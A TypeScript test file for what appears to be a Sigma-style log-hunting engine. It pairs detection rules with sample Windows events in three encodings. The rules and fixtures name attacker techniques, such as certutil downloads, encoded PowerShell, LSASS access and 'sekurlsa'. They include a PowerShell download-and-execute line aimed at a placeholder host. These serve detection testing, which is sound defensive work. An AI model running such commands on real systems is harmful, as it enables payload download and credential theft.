// Rules of many categories × an event of each, in three encodings: every hit is the rule's own or has a reason here.
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { openTelemetry } from '../query/prepare-query.ts'
import { hunt } from './hunt.ts'
import { compileRules, readRules } from './hunt-rules.ts'

const folder = mkdtempSync(join(tmpdir(), 'matrix-'))
after(() => rmSync(folder, { recursive: true }))

const SYSMON = { Provider: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational' }
const SECURITY = { Provider: 'Microsoft-Windows-Security-Auditing', Channel: 'Security' }
const TIME = { UtcTime: '2026-06-21 09:00:00.000' }

interface Row {
  readonly rule: string
  readonly source: string
  readonly detection: string
  readonly system: Readonly<Record<string, string>>
  readonly data: Readonly<Record<string, string>>
  /** Other rules that find the event, and why. */
  readonly also?: Readonly<Record<string, string>>
}

/** The event of each row is one that its rule finds. */
const ROWS: readonly Row[] = [
  {
    rule: 'download by certutil',
    source: 'category: process_creation',
    detection: "    s:\n        Image|endswith: '\\certutil.exe'\n        CommandLine|contains|all: [urlcache, http]\n",
    system: { ...SYSMON, EventID: '1' },
    data: { ...TIME, Image: 'C:\\Windows\\System32\\CertUtil.exe', CommandLine: 'certutil -URLCache -f HTTP://x/y' },
    also: { 'a process of System32': 'certutil lies there' },
  },
  {
    rule: 'a process of System32',
    source: 'category: process_creation',
    detection: "    s:\n        Image|startswith: 'C:\\Windows\\System32\\'\n    f:\n        CommandLine: ''\n",
    system: { ...SYSMON, EventID: '1' },
    data: { ...TIME, Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami "/all" ünï' },
  },
  {
    rule: 'encoded command',
    source: 'category: process_creation',
    detection: "    s:\n        CommandLine|re: '(?i)-e(nc|ncodedcommand)?\\s+[A-Za-z0-9+/=]{12,}'\n",
    system: { ...SECURITY, EventID: '4688' },
    data: { NewProcessName: 'C:\\p.exe', CommandLine: 'p.exe -Enc SQBFAFgAIAAoAE4A' },
  },
  {
    rule: 'memory of lsass',
    source: 'category: process_access',
    detection: "    s:\n        TargetImage|endswith: '\\lsass.exe'\n        GrantedAccess: ['0x1010', '0x1410']\n",
    system: { ...SYSMON, EventID: '10' },
    data: {
      ...TIME,
      SourceImage: 'C:\\a.exe',
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1410',
    },
  },
  {
    rule: 'autostart',
    source: 'category: registry_set',
    detection:
      "    s:\n        TargetObject|contains: '\\CurrentVersion\\Run'\n    f:\n        Details|startswith: 'C:\\Program Files\\'\n",
    system: { ...SYSMON, EventID: '13' },
    data: {
      ...TIME,
      EventType: 'SetValue',
      TargetObject: 'HKU\\S\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a',
      Details: 'C:\\Temp\\a.exe',
    },
  },
  {
    rule: 'pipe',
    source: 'category: pipe_created',
    detection: "    s:\n        PipeName|re: '^\\\\msagent_[0-9a-f]{2}$'\n",
    system: { ...SYSMON, EventID: '17' },
    data: { ...TIME, PipeName: '\\msagent_7f', Image: 'C:\\a.exe' },
  },
  {
    rule: 'name of a host',
    source: 'category: dns_query',
    detection: "    s:\n        QueryName|endswith: ['.example', '.invalid']\n",
    system: { ...SYSMON, EventID: '22' },
    data: { ...TIME, QueryName: 'A.Example', Image: 'C:\\a.exe' },
  },
  {
    rule: 'script block',
    source: 'category: ps_script',
    detection: '    s:\n        ScriptBlockText|contains: [FromBase64String, DownloadString]\n',
    system: {
      Provider: 'Microsoft-Windows-PowerShell',
      Channel: 'Microsoft-Windows-PowerShell/Operational',
      EventID: '4104',
    },
    data: { ScriptBlockText: 'iex (new-object net.webclient).downloadstring("x")' },
    also: { 'words anywhere': 'downloadstring is one of its words' },
  },
  {
    rule: 'words anywhere',
    source: 'product: windows',
    detection: '    s:\n        - DOWNLOADSTRING\n        - sekurlsa\n',
    system: { Provider: 'Service Control Manager', Channel: 'System', EventID: '7045' },
    data: { ServiceName: 'sekurlsa::x', ImagePath: 'C:\\s.exe' },
    also: { service: 'it is a new service' },
  },
  {
    rule: 'service',
    source: 'service: system',
    detection: '    s:\n        EventID: 7045\n        Provider_Name: Service Control Manager\n',
    system: { Provider: 'Service Control Manager', Channel: 'System', EventID: '7045' },
    data: { ServiceName: 'x', ImagePath: 'C:\\s.exe' },
  },
  {
    rule: 'logon from a network',
    source: 'service: security',
    detection: '    s:\n        EventID: 4624\n        LogonType: 3\n    f:\n        IpAddress|cidr: 10.0.0.0/8\n',
    system: { ...SECURITY, EventID: '4624' },
    data: { LogonType: '3', IpAddress: '192.0.2.7', TargetUserName: 'ann' },
  },
  {
    rule: 'no name of a target',
    source: 'service: security',
    detection: '    s:\n        EventID: 4625\n        TargetUserName: null\n',
    system: { ...SECURITY, EventID: '4625' },
    data: { LogonType: '3', IpAddress: '192.0.2.7' },
  },
  {
    rule: 'a logon of no kind',
    source: 'service: security',
    detection: '    s:\n        EventID: 4624\n        LogonType|gt: 90\n',
    system: { ...SECURITY, EventID: '4624' },
    data: { LogonType: '99', IpAddress: '10.1.2.3' },
  },
]

const xml = (t: string): string => t.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`)
const ENCODINGS: Readonly<Record<string, (row: Row) => string>> = {
  'flat JSON': ({ system, data }) => JSON.stringify({ ...system, Computer: 'h', ...data }),
  'JSON of evtx_dump': ({ system: { Provider, ...system }, data }) =>
    JSON.stringify({
      Event: { System: { Provider: { '#attributes': { Name: Provider } }, ...system, Computer: 'h' }, EventData: data },
    }),
  XML: ({ system: { Provider = '', ...system }, data }) =>
    `<Event><System><Provider Name="${Provider}"/>${Object.entries({
      EventID: system['EventID'] ?? '',
      Channel: system['Channel'] ?? '',
      Computer: 'h',
    })
      .map(([n, v]) => `<${n}>${xml(v)}</${n}>`)
      .join('')}</System><EventData>${Object.entries(data)
      .map(([n, v]) => `<Data Name="${n}">${xml(v)}</Data>`)
      .join('')}</EventData></Event>`,
}

const rules = ROWS.map(({ rule, source, detection }, i) => {
  const path = join(folder, `${i}.yml`)
  const product = source.startsWith('product') ? '' : '    product: windows\n'
  const condition = detection.includes('    f:\n') ? 's and not f' : 's'
  writeFileSync(
    path,
    `title: ${rule}\nlogsource:\n    ${source}\n${product}detection:\n${detection}    condition: ${condition}\n`,
  )
  return path
})

for (const [encoding, write] of Object.entries(ENCODINGS))
  test(`rules × events as ${encoding}`, async () => {
    const log = join(folder, `${encoding}.log`)
    // Twice: the second time, the reader knows the shapes.
    writeFileSync(log, `${[...ROWS, ...ROWS].map(write).join('\n')}\n`)
    const telemetry = await openTelemetry({ logs: [log] })
    const chosen = await compileRules(readRules(rules).queries, {}, telemetry)
    assert.deepEqual([chosen.rules.length, chosen.refused], [ROWS.length, []])
    const hits = ROWS.map((): string[] => [])
    const result = await hunt(chosen.rules, {
      files: telemetry.files,
      most: 1000,
      budget: 60,
      withEvent: false,
      onFinding: ({ rule, log: at }) =>
        hits[((at?.line ?? 0) - 1) % ROWS.length]?.push(chosen.rules[rule]?.title ?? ''),
    })
    assert.equal(result.files[0]?.stats.events, 2 * ROWS.length)
    for (const [i, { rule, also = {} }] of ROWS.entries()) {
      const expected = [rule, ...Object.keys(also)]
      assert.deepEqual(hits[i]?.sort(), [...expected, ...expected].sort(), rule)
    }
  })
